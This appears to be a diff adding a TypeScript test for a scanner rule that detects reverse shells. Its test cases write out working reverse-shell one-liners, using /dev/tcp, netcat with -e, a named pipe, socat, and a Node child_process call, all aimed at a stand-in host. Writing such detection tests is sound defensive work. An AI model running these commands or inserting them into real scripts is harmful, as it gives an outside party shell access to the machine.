@@ -1,0 +1,28 @@
+import { testRule } from '../../testing/rule-checks.ts';
+import { reverseShell } from './reverse-shell.ts';
+
+const script = (line: string) => ({ 'scripts/a.sh': `#!/bin/sh\n${line}\n` });
+
+testRule(reverseShell, {
+  caught: [
+    { of: '/dev/tcp', files: script('exec 5<>/dev/tcp/relay.example/443'), severity: 'critical' },
+    { of: 'netcat', files: script('nc relay.example 4444 -e /bin/sh'), severity: 'critical' },
+    {
+      of: 'a named pipe',
+      files: script('mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc relay.example 4444 > /tmp/f'),
+    },
+    { of: 'socat', files: script('socat tcp:relay.example:4444 exec:/bin/sh') },
+    {
+      of: 'a command of the code',
+      files: {
+        'handlers/a.ts': "import { exec } from 'child_process';\nexec('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1');\n",
+      },
+      severity: 'critical',
+    },
+    { of: 'a document', files: { 'SKILL.md': '```\nbash -i >& /dev/tcp/relay.example/1 0>&1\n```\n' } },
+  ],
+  silent: [
+    { of: 'a look whether a port is open', files: script('nc -z localhost 5432') },
+    { of: 'a null device', files: script('ls > /dev/null 2>&1') },
+  ],
+});
